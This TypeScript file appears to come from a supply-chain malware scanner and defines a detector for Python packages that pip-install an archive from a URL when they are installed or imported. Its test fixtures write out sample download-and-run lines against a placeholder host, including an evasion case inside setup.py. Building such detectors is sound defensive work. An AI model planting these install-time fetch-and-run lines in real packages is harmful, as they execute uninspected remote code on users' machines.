import { marks } from "../behaviour/marks.ts";
import { deedsOf, mayActAtLoad } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, isLate, sight } from "./_sight.ts";

/** A package that is named by an address, not by an option's. */
const BY_ADDRESS =
  /\binstall\b(?:[ \t]{1,4}(?!--?(?:i|f|index-url|extra-index-url|find-links|trusted-host|proxy)\b)[\w=.-]{1,60}){0,6}[ \t]{1,4}(?:[\w.-]{1,60}[ \t]{0,2}@[ \t]{0,2})?(https?:\/\/[\w.-]{4,200}[^\s"']{0,300})/;
/** Hosts of projects, where an address says whose code it is. */
const FORGES =
  /^https?:\/\/(?:[\w-]{1,40}\.)?(?:github\.com|gitlab\.com|bitbucket\.org|codeberg\.org|pytorch\.org|nvidia\.com|googleapis\.com|huggingface\.co)\//;

export const installsFromAddress: Detector = {
  id: "installs-from-address",
  title: "Installs a package from an address while it is installed or imported",
  severity: "high",
  ecosystems: ["pypi"],
  points: 5,
  class: "threat",
  group: "download-and-run",
  why: `The package manager is run on an archive at an address that stands in the code: no index and no lock file knows that archive, it is not
inspected, and its build script runs at once. That is a download that is executed, by other means.

Projects install unreleased versions of a dependency from the forge where it is developed; that counts in part.`,
  literals: marks("install-package"),
  *detect(tree) {
    for (const file of codeWith(tree, marks("install-package"))) {
      if (file.kind !== "python" || !mayActAtLoad(file, "start")) continue;
      for (const deed of deedsOf(file, "install-package")) {
        const address = isLate(deed) ? undefined : BY_ADDRESS.exec(deed.text)?.[1];
        if (address === undefined) continue;
        yield sight(file, deed.offset, `installs ${address.slice(0, 150)}`, {
          phase: deed.phase,
          share: FORGES.test(address) ? 0.4 : 1,
        });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: { "demo/__init__.py": "import os\nos.system('pip install https://example.invalid/a-1.0.tar.gz')\n" },
      },
    ],
    passes: [
      { ecosystem: "pypi", files: { "setup.py": "import os\nos.system('pip install demo')\n" } },
      {
        ecosystem: "pypi",
        files: {
          "setup.py": "import os\nos.system('pip install --index-url https://example.invalid/simple demo')\n",
        },
      },
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py": "import os\ndef update():\n    os.system('pip install https://example.invalid/a-1.0.tar.gz')\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "setup.py":
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--quiet', 'demo @ https://example.invalid/a.whl'])\n",
        },
      },
    ],
  },
};
